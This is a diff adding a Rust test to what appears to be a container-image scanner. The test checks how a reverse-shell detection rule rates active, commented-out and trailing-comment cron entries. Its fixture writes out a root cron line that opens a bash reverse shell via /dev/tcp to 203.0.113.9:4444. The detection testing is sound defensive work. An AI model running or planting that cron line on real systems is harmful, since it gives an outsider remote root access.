@@ -429,3 +429,34 @@ fn a_layer_read_again_keeps_its_findings_and_is_not_scanned_twice() {
     // Four files in two blobs: scanned once, whichever tarball or read reaches them.
     assert_eq!(scanner.files_scanned(), 4);
 }
+
+#[test]
+fn a_threat_only_in_commented_out_lines_is_reported_low_and_says_so() {
+    let shell = "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";
+    let layer = layer_tar(&[
+        ("etc/cron.d/active", format!("SHELL=/bin/sh\n{shell}").as_bytes()),
+        ("etc/cron.d/disabled", format!("SHELL=/bin/sh\n  # {shell}").as_bytes()),
+        ("etc/cron.d/trailing", format!("echo ok # {shell}").as_bytes()),
+    ]);
+    let report = scan_image(&[layer], Limits::default(), &[]);
+    let by_path = |path: &str| -> Vec<(String, String, String)> {
+        let findings = image(&report)["findings"].as_array().unwrap();
+        findings
+            .iter()
+            .filter(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp" && f["locations"][0]["path"] == path)
+            .map(|f| {
+                let field = |name: &str| f[name].as_str().unwrap().to_string();
+                (field("severity"), field("confidence"), field("description"))
+            })
+            .collect()
+    };
+    let active = by_path("/etc/cron.d/active");
+    assert_eq!(active.len(), 1, "{active:?}");
+    assert_eq!(active[0].0, "critical");
+    let disabled = by_path("/etc/cron.d/disabled");
+    assert_eq!(disabled.len(), 1, "{disabled:?}");
+    assert_eq!((disabled[0].0.as_str(), disabled[0].1.as_str()), ("low", "low"));
+    assert!(disabled[0].2.contains("commented-out"), "{}", disabled[0].2);
+    // After a command, the comment marker does not make the line a comment: the rule stands.
+    assert_eq!(by_path("/etc/cron.d/trailing")[0].0, "critical");
+}
